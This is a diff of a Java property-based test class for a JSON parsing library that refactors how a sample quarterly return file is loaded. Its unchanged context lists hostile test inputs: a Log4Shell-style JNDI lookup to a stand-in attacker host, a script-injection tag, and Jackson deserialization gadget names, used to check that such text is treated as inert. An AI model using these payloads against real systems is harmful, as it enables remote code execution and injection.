@@ -10,11 +10,8 @@ import com.fasterxml.jackson.databind.json.JsonMapper;
 import dev.bcfkit.core.Text;
 import dev.bcfkit.core.returns.QuarterlyReturn;
 import dev.bcfkit.json.BcfParseException;
-import java.io.IOException;
-import java.io.UncheckedIOException;
+import dev.bcfkit.testkit.seeds.SampleDocument;
 import java.nio.charset.StandardCharsets;
-import java.nio.file.Files;
-import java.nio.file.Path;
 import java.util.List;
 import net.jqwik.api.Arbitraries;
 import net.jqwik.api.Arbitrary;
@@ -38,17 +35,9 @@ class VerbatimTextProperties {
             "${jndi:ldap://attacker.invalid/a}", "<script>alert(1)</script>", "@class", "java.lang.Runtime");
 
     private static final JsonMapper QUOTE = JsonMapper.builder().build();
-    private static final String NOTTINGHAMSHIRE = read("nottinghamshire-2017-18-q2.json");
+    private static final String NOTTINGHAMSHIRE = SampleTexts.of(SampleDocument.NOTTINGHAMSHIRE_2017_18_Q2);
     private static final String COMPLETED_BY = "\"completedBy\": \"Joanna Cooper\"";
     private static final String SECTION_75 = "\"pooledViaSection75\": \"Yes\"";
-
-    private static String read(String sample) {
-        try {
-            return Files.readString(Path.of("..", "examples", "data", sample));
-        } catch (IOException e) {
-            throw new UncheckedIOException(e);
-        }
-    }
 
     private static String json(String text) {
         try {
